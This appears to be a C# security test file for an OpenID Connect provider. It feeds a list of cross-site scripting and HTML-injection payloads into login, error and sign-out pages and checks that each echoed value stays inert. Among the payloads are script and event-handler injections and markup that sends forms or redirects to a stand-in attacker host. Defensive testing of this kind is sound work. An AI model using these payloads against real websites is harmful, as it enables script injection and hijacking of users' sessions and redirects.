using Oidc;
using ProviderHarness;

namespace Attacks;

/// <summary>Everything the provider repeats of a request stands on the page as text, in every place it is repeated.</summary>
public sealed class EchoAttacks(AttackedProvider attacked) : AttackTest(attacked)
{
    public static TheoryData<string> Markup =>
    [
        "<script>xss1337()</script>", "\"><script>xss1337()</script>", "'><script>xss1337()</script>", "</title><script>xss1337()</script>", "</textarea><img src=x onerror=xss1337()>",
        "<img src=x onerror=xss1337()>", "\"><svg onload=xss1337()>", "\" autofocus onfocus=xss1337() x=\"", "' onmouseover='xss1337()", "javascript:xss1337()", "<iframe srcdoc='<script>xss1337()</script>'>",
        "</form><form action=https://attacker.example/>", "<base href=https://attacker.example/>", "<meta http-equiv=refresh content='0;url=https://attacker.example/'>",
        "<style>@import 'https://attacker.example/'</style>", "<math><mtext><table><mglyph><style><img src=x onerror=xss1337()>", "<!--<script>xss1337()</script>-->", "]]><script>xss1337()</script>",
        "&lt;script&gt;xss1337()&lt;/script&gt;", "&#60;script&#62;xss1337()", "\\u003cscript\\u003exss1337()", "+ADw-script+AD4-xss1337()", "\u2028xss1337()", "<scr\u0000ipt>".Replace("\0", ""), "{{constructor.constructor('xss1337()')()}}",
    ];

    private string Home(int offset) => $"http://localhost:{new Uri(Provider.Issuer).Port + offset}/";

    [Theory]
    [MemberData(nameof(Markup))]
    public async Task On_the_pages_before_anybody_is_signed_in(string markup)
    {
        var visitor = NewVisitor();
        var begun = await visitor.GetAsync(Endpoints.Authorize, Requests.Authorize(Provider).With("login_hint", markup).With("ui_locales", markup).With("state", markup).With("display", markup));
        var logIn = await visitor.GetAsync(begun.Location!);
        Inert(logIn);
        Inert(await visitor.GetAsync(begun.Location!.Replace("/log-in", "/create-account")));
        Inert(await visitor.GetAsync(begun.Location! + "&x=" + Uri.EscapeDataString(markup) + "&" + Uri.EscapeDataString(markup) + "=x"));

        Inert(await visitor.SubmitAsync(logIn, ("identifier", markup)));
        Inert(await visitor.SubmitAsync(await visitor.GetAsync(begun.Location!.Replace("/log-in", "/create-account")), ("identifier", markup)));
        foreach (var address in new[] { $"{markup.Replace(" ", "")}@example.com", $"x@{markup.Replace(" ", "")}.example" })
        {
            var next = await visitor.SubmitAsync(logIn, ("identifier", address));
            Inert(next.Location is null ? next : await visitor.GetAsync(next.Location));
            if (next.Location is not null)
            {
                Inert(await visitor.GetAsync(next.Location.Replace("/email-verification", "/log-in/password")));
            }
        }
    }

    [Theory]
    [MemberData(nameof(Markup))]
    [Trait("Advisory", "GO-2026-4861")]
    public async Task On_error_pages(string markup)
    {
        var visitor = NewVisitor();
        var encoded = Uri.EscapeDataString(markup);

        foreach (var name in Requests.Authorize(Provider).Names)
        {
            var reply = await visitor.GetAsync(Endpoints.Authorize, Requests.Authorize(Provider).With(name, markup));
            if (reply.Status != 303)
            {
                Inert(reply);
            }
        }

        Inert(await visitor.GetAsync($"{Endpoints.Authorize}?{encoded}=1&{encoded}=2"));
        Inert(await visitor.GetAsync($"{Endpoints.AuthorizeContinue}?interaction={encoded}"));
        Inert(await visitor.GetAsync($"/log-in?{encoded}=1&{encoded}=2"));
        Inert(await visitor.GetAsync($"/log-in?interaction={encoded}"));
        Inert(await visitor.GetAsync($"/log-in/error?error={encoded}&error_description={encoded}&error_hint={encoded}&message={encoded}"));
        Inert(await visitor.GetAsync($"/log-out?client={encoded}&reason={encoded}&ui_locales={encoded}"));
        foreach (var header in new[] { "X-Request-Id", "Referer", "User-Agent", "Accept-Language", "Accept", "X-Forwarded-Host" })
        {
            var shot = Shot.Get("/log-in?interaction=x").With("Accept", "text/html").With(header, new string([.. markup.Where(character => character is >= ' ' and <= '~')]));
            Inert(await visitor.SendAsync(shot));
            Inert(await visitor.SendAsync(shot with { Target = $"/{encoded}" }));
        }
    }

    [Theory]
    [MemberData(nameof(Markup))]
    public async Task On_the_pages_of_signing_out(string markup)
    {
        var visitor = NewVisitor();
        var tokens = await visitor.TokensAsync("openid");
        var hint = tokens["id_token"]!;

        foreach (var form in new[]
        {
            Form.Of(("client_id", "storefront"), ("post_logout_redirect_uri", Home(3)), ("state", markup)), Form.Of(("client_id", markup)), Form.Of(("id_token_hint", markup), ("state", markup)),
            Form.Of(("post_logout_redirect_uri", markup), ("client_id", "storefront")), Form.Of(("ui_locales", markup), ("logout_hint", markup)), Form.Of((markup, markup)), Form.Of((markup, "1"), (markup, "2")),
            Form.Of(("id_token_hint", hint), ("post_logout_redirect_uri", markup), ("state", markup)),
        })
        {
            Inert(await visitor.GetAsync(Endpoints.EndSession, form));
            Inert(await visitor.SendAsync(Shot.Post(Endpoints.EndSession, form)));
        }

        var back = await visitor.GetAsync(Endpoints.EndSession, Form.Of(("id_token_hint", hint), ("post_logout_redirect_uri", Home(3)), ("state", markup)));
        back.Redirected("state").ShouldBe(markup);
    }

    // CVE-2018-8899.
    [Theory]
    [MemberData(nameof(Markup))]
    [Trait("Advisory", "CVE-2018-8899")]
    public async Task In_the_form_that_posts_itself(string markup)
    {
        var visitor = NewVisitor();
        await visitor.SignInAsync(Requests.Authorize(Provider));

        var posted = await visitor.GetAsync(Endpoints.Authorize, Requests.Authorize(Provider).With("response_mode", "form_post").With("state", markup));

        posted.ShouldBeInert(markup, SignedIn.RedirectUriOf(Provider, "storefront"));
        posted.Page.QuerySelector("input[name=state]")!.GetAttribute("value").ShouldBe(markup);
    }

    private void Inert(Reply reply)
    {
        reply.IsPage.ShouldBeTrue(reply.ToString());
        reply.ShouldBeInert(reply.ToString(), Home(3), Home(2));
    }
}
